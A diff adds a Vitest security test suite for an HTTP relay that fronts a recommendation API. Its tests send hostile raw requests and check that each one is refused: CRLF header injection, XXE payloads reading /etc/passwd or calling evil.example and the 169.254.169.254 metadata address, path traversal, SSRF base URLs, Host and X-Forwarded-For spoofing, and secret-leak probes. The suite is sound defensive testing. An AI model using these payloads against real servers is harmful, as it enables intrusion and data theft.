@@ -1,0 +1,348 @@
+// The table of attacks. Each is tried over a real socket against the relay in Node's http server, in front of a real service.
+import { connect } from 'node:net';
+import { inspect } from 'node:util';
+import { afterEach, describe, expect, it } from 'vitest';
+import { toNodeHandler } from '../../../src/server/adapters/node-handler.js';
+import { createClient } from '../../../src/server/client/create-client.js';
+import { createRelay } from '../../../src/server/relay/create-relay.js';
+import type { RelayOptions } from '../../../src/server/relay/relay-options.js';
+import { listen, startUpstream } from './upstream.js';
+
+const DEVICE = '5b0d0d9c-5e0f-4d0e-9d3b-0a4c7a1f2b3c';
+const PATH = `/reco/v3/operations/async?endpointId=my-shop&operation=ViewProduct&deviceUUID=${DEVICE}`;
+const BODY = '<operation><product><ids><webSiteId>1</webSiteId></ids></product></operation>';
+const SECRET = 's3cret<&"key\'/+=';
+
+const open: (() => Promise<void>)[] = [];
+afterEach(async () => {
+  await Promise.all(open.splice(0).map((close) => close()));
+});
+
+async function start(options: Partial<RelayOptions> = {}, reply: Parameters<typeof startUpstream>[0] = {}) {
+  const upstream = await startUpstream(reply);
+  const relay = createRelay({ baseUrl: upstream.url, secretKey: SECRET, endpointId: 'my-shop', ...options });
+  const shop = await listen(toNodeHandler(relay));
+  open.push(upstream.close, shop.close);
+  return { received: upstream.received, shop, upstream };
+}
+
+interface Raw {
+  path?: string;
+  method?: string;
+  headers?: string[];
+  body?: string | Buffer;
+  length?: number | false;
+  host?: string;
+}
+
+/** Writes a request byte for byte, as no browser or client would, and gives what comes back until the connection ends. */
+const raw = (
+  port: number,
+  { path = PATH, method = 'POST', headers = [], body = BODY, length, host = 'shop.example' }: Raw,
+) =>
+  new Promise<string>((resolve, reject) => {
+    const socket = connect(port, '127.0.0.1');
+    let text = '';
+    socket.on('data', (chunk) => {
+      text += chunk;
+    });
+    socket.on('close', () => resolve(text));
+    socket.on('error', (error) => (text ? resolve(text) : reject(error)));
+    const size = length === undefined ? Buffer.byteLength(body) : length;
+    socket.write(
+      `${[
+        `${method} ${path} HTTP/1.1`,
+        `Host: ${host}`,
+        'Connection: close',
+        ...(headers.some((line) => /^content-type:/i.test(line)) ? [] : ['Content-Type: application/xml']),
+        ...(size === false ? [] : [`Content-Length: ${size}`]),
+        ...headers,
+      ].join('\r\n')}\r\n\r\n`,
+    );
+    socket.write(body);
+  });
+
+const status = (answer: string) => Number(/^HTTP\/1\.1 (\d+)/.exec(answer)?.[1]);
+
+describe('header injection by the query', () => {
+  it.each([
+    ['operation', '/reco/v3/operations/async?endpointId=my-shop&operation=ViewProduct%0d%0aX-Evil:%201', 400],
+    ['endpointId', '/reco/v3/operations/async?endpointId=my-shop%0d%0aX-Evil:%201&operation=ViewProduct', 400],
+    ['deviceUUID', `${PATH}%0d%0aX-Evil:%201`, 400],
+    ['a parameter let through', `${PATH}&transactionId=1%0d%0aX-Evil:%201`, 400],
+    ['another parameter', `${PATH}&x=1%0d%0aX-Evil:%201`, 200],
+  ])('in %s', async (_, path, expected) => {
+    const { shop, received } = await start({ query: ['transactionId'] });
+    const answer = await raw(shop.port, { path });
+    expect(status(answer)).toBe(expected);
+    expect(answer).not.toMatch(/evil/i);
+    for (const { headers, url } of received) expect(`${JSON.stringify(headers)}${url}`).not.toMatch(/evil/i);
+  });
+
+  it('a parameter given twice is not left for two readers to read differently', async () => {
+    const { shop, received } = await start({ operations: ['ViewProduct', 'SetCart'] });
+    expect(status(await raw(shop.port, { path: `${PATH}&operation=SetCart` }))).toBe(400);
+    expect(status(await raw(shop.port, { path: `${PATH}&endpointId=other` }))).toBe(400);
+    expect(received).toHaveLength(0);
+  });
+
+  it('an & in a value stays in the value', async () => {
+    const { shop, received } = await start({ endpointId: undefined });
+    await raw(shop.port, { path: '/v3/operations/async?endpointId=a%26operation%3DDelete&operation=SetCart' });
+    const { searchParams } = new URL(received[0]!.url, 'http://x');
+    expect([...searchParams]).toEqual([
+      ['endpointId', 'a&operation=Delete'],
+      ['operation', 'SetCart'],
+    ]);
+  });
+});
+
+describe('oversized and slow bodies', () => {
+  it('announced too large', async () => {
+    const { shop, received } = await start();
+    expect(status(await raw(shop.port, { length: 10_000_000, body: '<operation>' }))).toBe(413);
+    expect(received).toHaveLength(0);
+  });
+
+  it('too large without saying so, in chunks that never end', async () => {
+    const { shop, received } = await start({ maxBodyBytes: 10_000 });
+    const body = `1000\r\n${'x'.repeat(0x1000)}\r\n`.repeat(10);
+    expect(status(await raw(shop.port, { length: false, headers: ['Transfer-Encoding: chunked'], body }))).toBe(413);
+    expect(received).toHaveLength(0);
+  });
+
+  it('slow: a byte and then nothing', async () => {
+    const { shop, received } = await start({ bodyTimeout: 50 });
+    expect(status(await raw(shop.port, { length: 1000, body: '<' }))).toBe(408);
+    expect(received).toHaveLength(0);
+  });
+
+  it('many at a time: what they hold together has an end, and is given back', async () => {
+    const { shop } = await start({ maxHeldBytes: 5000, bodyTimeout: 200 });
+    const held = Array.from({ length: 10 }, () => raw(shop.port, { length: 2000, body: 'x'.repeat(1000) }));
+    const statuses = (await Promise.all(held)).map(status);
+    expect(statuses).toContain(503);
+    expect(statuses).toContain(408);
+    expect(status(await raw(shop.port, {}))).toBe(200);
+  });
+
+  it('compressed, to be large only behind the relay', async () => {
+    const { shop } = await start();
+    expect(status(await raw(shop.port, { headers: ['Content-Encoding: gzip'] }))).toBe(415);
+  });
+});
+
+describe('bodies that are no operation', () => {
+  it.each([
+    ['entity bomb', '<!DOCTYPE o [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><operation>&b;</operation>'],
+    ['external entity', '<!DOCTYPE o [<!ENTITY a SYSTEM "file:///etc/passwd">]><operation>&a;</operation>'],
+    ['external document type', '<!DOCTYPE operation SYSTEM "http://169.254.169.254/latest"><operation/>'],
+    ['parameter entity', '<!DOCTYPE o [<!ENTITY % a SYSTEM "http://evil.example"> %a;]><operation/>'],
+    ['another root', '<delete/>'],
+    ['two roots', '<operation/><operation/>'],
+    ['another encoding', Buffer.from('<operation/>', 'utf16le')],
+    ['JSON', '{"operation":{}}'],
+    ['nothing', ''],
+  ])('%s', async (_, body) => {
+    const { shop, received } = await start();
+    expect(status(await raw(shop.port, { body }))).toBe(400);
+    expect(received).toHaveLength(0);
+  });
+
+  it.each([
+    'text/plain',
+    'application/x-www-form-urlencoded',
+    'multipart/form-data',
+    'text/xml',
+    'application/json',
+    'application/xml; charset=utf-7',
+    'application/xml, text/plain',
+    'application/xml-dtd',
+  ])('of type %s, as a page may send without asking', async (type) => {
+    const { shop, received } = await start();
+    expect(status(await raw(shop.port, { headers: [`Content-Type: ${type}`] }))).toBe(415);
+    expect(received).toHaveLength(0);
+  });
+});
+
+describe('path tricks', () => {
+  it.each([
+    '/reco/v3/operations/async/../../../admin',
+    '/reco/x/../v3/operations/async?operation=ViewProduct',
+    '/reco/v3/operations/async%2f..%2fsync?operation=ViewProduct',
+    '/reco/%2e%2e/v3/operations/async?operation=ViewProduct',
+    '/reco//v3/operations/async?operation=ViewProduct',
+    '//evil.example/v3/operations/async?operation=ViewProduct',
+    '/reco\\..\\v3/operations/async?operation=ViewProduct',
+    '/reco/v3/operations/async;x=1?operation=ViewProduct',
+    '/reco/v3/operations/ASYNC?operation=ViewProduct',
+    '/reco/v3/operations/async/?operation=ViewProduct',
+    '/reco/v3/operations/admin?operation=ViewProduct',
+    '/reco/v2/operations/async?operation=ViewProduct',
+    '/reco/v3/operations/async%00?operation=ViewProduct',
+    'http://evil.example/v3/operations/async?operation=ViewProduct',
+    '*',
+  ])('%s', async (path) => {
+    const { shop, received } = await start();
+    expect([400, 404]).toContain(status(await raw(shop.port, { path })));
+    expect(received).toHaveLength(0);
+  });
+
+  it.each(['GET', 'PUT', 'DELETE', 'PATCH', 'HEAD'])('method %s', async (method) => {
+    const { shop, received } = await start();
+    expect(status(await raw(shop.port, { method, body: '' }))).toBe(405);
+    expect(received).toHaveLength(0);
+  });
+});
+
+describe('server-side request forgery', () => {
+  it.each([
+    'file:///etc/passwd',
+    'ftp://x',
+    'data:,x',
+    '/reco',
+    'api.example',
+    'http://user:pa55@api.example',
+    'https://api.example/?a=',
+    'https://api.example/#',
+  ])('base address %s is refused at the start, without being repeated', (baseUrl) => {
+    expect(() => createRelay({ baseUrl })).toThrow(TypeError);
+    expect(() => createRelay({ baseUrl })).not.toThrow('pa55');
+    expect(() => createClient({ baseUrl, endpointId: 'e' })).toThrow(TypeError);
+  });
+
+  it.each(['evil.example', '169.254.169.254', 'user@evil.example', 'evil.example:80#'])(
+    'Host "%s" has no say in where the call goes',
+    async (host) => {
+      const { shop, received, upstream } = await start();
+      await raw(shop.port, { host, headers: [`X-Forwarded-Host: ${host}`, 'X-Original-URL: /admin'] });
+      for (const { url, headers } of received)
+        expect([url, headers.host]).toEqual([PATH.replace('/reco', ''), `127.0.0.1:${upstream.port}`]);
+    },
+  );
+});
+
+describe('forwarded addresses', () => {
+  it.each([
+    [0, ['1.1.1.1'], '127.0.0.1'],
+    [1, ['1.1.1.1'], '1.1.1.1'],
+    [1, ['9.9.9.9, 1.1.1.1'], '1.1.1.1'],
+    [1, ['9.9.9.9', '1.1.1.1'], '1.1.1.1'],
+    [2, ['9.9.9.9, 1.1.1.1, 10.0.0.1'], '1.1.1.1'],
+    [2, ['9.9.9.9'], '127.0.0.1'],
+    [3, [], '127.0.0.1'],
+    [1, ['[2001:DB8::0:1]:443'], '2001:db8::1'],
+    [1, ['unknown'], undefined],
+    [1, ['1.1.1.1\t<x>'], undefined],
+  ])('behind %d proxies, %j is %s', async (trustedProxies, values, expected) => {
+    const { shop, received } = await start({ trustedProxies });
+    const headers = [
+      ...values.map((value) => `X-Forwarded-For: ${value}`),
+      'X-Customer-IP: 6.6.6.6',
+      'X-Real-IP: 6.6.6.6',
+      'Forwarded: for=6.6.6.6',
+      'CF-Connecting-IP: 6.6.6.6',
+    ];
+    expect(status(await raw(shop.port, { headers }))).toBe(200);
+    expect(received[0]!.headers['x-customer-ip']).toBe(expected);
+  });
+
+  it('do not buy a new allowance', async () => {
+    const { shop, received } = await start({ limitByIp: { perSecond: 0.1, burst: 2 } });
+    for (let index = 0; index < 6; index++) await raw(shop.port, { headers: [`X-Forwarded-For: 1.1.1.${index}`] });
+    expect(received).toHaveLength(2);
+  });
+});
+
+describe('foreign pages', () => {
+  it.each([
+    ['Origin: https://evil.example'],
+    ['Origin: null'],
+    ['Origin: https://shop.example.evil.example'],
+    ['Origin: https://evil.example/shop.example'],
+    ['Origin: https://shop.example', 'Sec-Fetch-Site: cross-site'],
+    ['Sec-Fetch-Site: cross-site'],
+    ['Origin: https://m.shop.example', 'Sec-Fetch-Site: same-site'],
+  ])('%s %s', async (...headers) => {
+    const { shop, received } = await start({ allowedOrigins: ['https://www.shop.example'] });
+    const answer = await raw(shop.port, { headers: headers.filter(Boolean) });
+    expect(status(answer)).toBe(403);
+    expect(answer).not.toMatch(/access-control/i);
+    const asked = ['Access-Control-Request-Method: POST', ...headers.filter(Boolean)];
+    expect(status(await raw(shop.port, { method: 'OPTIONS', body: '', headers: asked }))).toBe(403);
+    expect(received).toHaveLength(0);
+  });
+
+  it.each(['shop.example', 'https://shop.example/path', 'https://*.example', 'null', 'javascript:1'])(
+    'allowedOrigins %s is a mistake that is told at the start',
+    (origin) => {
+      expect(() => createRelay({ baseUrl: 'https://api.example', allowedOrigins: [origin] })).toThrow(/allowedOrigins/);
+    },
+  );
+});
+
+describe('secret leakage', () => {
+  const spellings = [SECRET, 's3cret&lt;&amp;&quot;key&apos;/+=', encodeURIComponent(SECRET), btoa(SECRET)];
+  const clean = (text: string) => {
+    for (const spelling of spellings) expect(text).not.toContain(spelling);
+    expect(text).not.toMatch(/s3cret|czNjcmV0/);
+  };
+  const echo = (code: number) => ({
+    status: code,
+    body: `<result><status>Bad ${spellings.join(' ')}</status></result>`,
+  });
+
+  it.each([200, 401, 500])('by a service that echoes what it got, with %d', async (code) => {
+    const { shop } = await start({}, echo(code));
+    const answer = await raw(shop.port, {});
+    expect(status(answer)).toBe(code);
+    clean(answer);
+  });
+
+  it.each([200, 401, 500])('by the error of a client, with %d', async (code) => {
+    const { upstream } = await start({}, echo(code));
+    const client = createClient({ baseUrl: upstream.url, endpointId: 'e', secretKey: SECRET, retries: 0 });
+    const error = await client.reco({ limit: 1 }).catch((caught) => caught);
+    expect(error.name).toBe('OperationError');
+    clean(
+      `${error} ${error.stack} ${error.body} ${error.status} ${JSON.stringify(error)} ${inspect(error, { depth: 9, showHidden: true })}`,
+    );
+  });
+
+  it('by a transport that throws what it was given', async () => {
+    const client = createClient({
+      baseUrl: 'https://api.example',
+      endpointId: 'e',
+      secretKey: SECRET,
+      fetch: async (_url, init) => {
+        throw Object.assign(Error(`failed: ${JSON.stringify(init.headers)}`, { cause: init }), { init });
+      },
+    });
+    const error = await client.viewProduct({ product: '1' }, { deviceUUID: DEVICE }).catch((caught) => caught);
+    clean(`${error.stack} ${inspect(error, { depth: 9, showHidden: true })}`);
+    expect(error.message).toContain('[secret]');
+  });
+
+  it('by looking at the client or the relay', () => {
+    const options = { baseUrl: 'https://api.example', endpointId: 'e', secretKey: SECRET };
+    for (const thing of [createClient(options), createRelay(options)])
+      clean(`${thing} ${JSON.stringify(thing)} ${inspect(thing, { depth: 9, showHidden: true })}`);
+  });
+
+  it.each(['', 'a b', 's3cret\r\nX-Evil: 1', 's3crét', '\u0000s3cret'])(
+    'by the complaint that %j is no secret',
+    (secretKey) => {
+      for (const make of [createRelay, createClient]) {
+        const caught = (() => {
+          try {
+            return make({ baseUrl: 'https://api.example', endpointId: 'e', secretKey });
+          } catch (error) {
+            return error as Error;
+          }
+        })();
+        expect(caught).toBeInstanceOf(TypeError);
+        expect((caught as Error).stack).not.toMatch(/s3cr|evil/i);
+      }
+    },
+  );
+});
